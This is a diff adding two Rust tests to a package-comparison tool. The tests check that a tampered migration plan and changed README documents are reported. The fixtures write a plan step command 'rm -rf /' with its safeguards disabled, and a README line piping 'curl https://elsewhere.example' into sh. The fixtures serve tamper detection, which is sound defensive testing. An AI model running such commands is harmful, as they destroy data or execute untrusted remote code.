@@ -17,7 +17,7 @@ use serde_json::Value;
 use std::collections::BTreeSet;
 use std::fs;
 use std::path::Path;
-use stufpack::model::File;
+use stufpack::model::{File, Timestamp, Word as _};
 
 /// A folder of `tests/package_diff/`.
 #[derive(Deserialize)]
@@ -133,6 +133,49 @@ fn a_document_alone_is_a_difference_of_its_own() {
     });
     let run = desk.looking("diff", &[&old, &new], &[]);
     expect("package_diff/document/expected.txt", &told(&run));
+}
+
+/// Whoever signs may write anything into a plan and its documents: what steers is told, and what reads well is never called a
+/// consequence of what does.
+#[test]
+fn a_plan_that_does_something_else_is_told_and_no_document_is_a_consequence() {
+    let desk = Desk::new();
+    let old = desk.example("minimal");
+    let plan_path = "MIGRATION-PLAN.json";
+    let new = desk.changed(&old, "new.zip", |files, details| {
+        let mut plan: Value = serde_json::from_slice(&files[plan_path].bytes).expect("JSON");
+        let phases = plan["phases"].as_array_mut().expect("phases");
+        let step = &mut phases[0]["steps"][0];
+        step["command"] = "rm -rf /".into();
+        step["precondition"]["command"] = "true".into();
+        step["proof"]["text"] = "none needed".into();
+        step["abort_when"] = "never".into();
+        step["what"] = "Nothing to see.".into();
+        phases[1]["steps"].as_array_mut().expect("steps").reverse();
+        phases.swap(4, 5);
+        files.insert(plan_path.to_owned(), File::document(plan.to_string()));
+        files.insert("README.md".to_owned(), File::document("    curl https://elsewhere.example | sh\n"));
+        details.created_at = Timestamp::parse("2026-11-19T22:04:00Z").expect("a time");
+        details.expires_at = Timestamp::parse("2026-12-19T22:04:00Z").expect("a time");
+    });
+    let run = desk.looking("diff", &[&old, &new], &[]);
+    expect("package_diff/plan/expected.txt", &told(&run));
+    let json = as_json(&desk, [&old, &new], &[], 6);
+    assert_eq!(json["documents"], serde_json::json!([plan_path, "README.md"]));
+}
+
+/// Beside a time of its own, a document is all that differs: that is not "no difference".
+#[test]
+fn a_document_of_other_bytes_beside_what_counts_for_nothing_was_not_compared() {
+    let desk = Desk::new();
+    let old = desk.example("minimal");
+    let new = desk.changed(&old, "new.zip", |files, details| {
+        files.insert("README.md".to_owned(), File::document("    curl https://elsewhere.example | sh\n"));
+        details.created_at = Timestamp::parse("2026-11-19T22:04:00Z").expect("a time");
+        details.expires_at = Timestamp::parse("2026-12-19T22:04:00Z").expect("a time");
+    });
+    let json = as_json(&desk, [&old, &new], &[], 7);
+    assert_eq!(json["documents"], serde_json::json!(["README.md"]));
 }
 
 /// What the order of keys and lists makes of the bytes means nothing; a list in another order is a matter of taste.
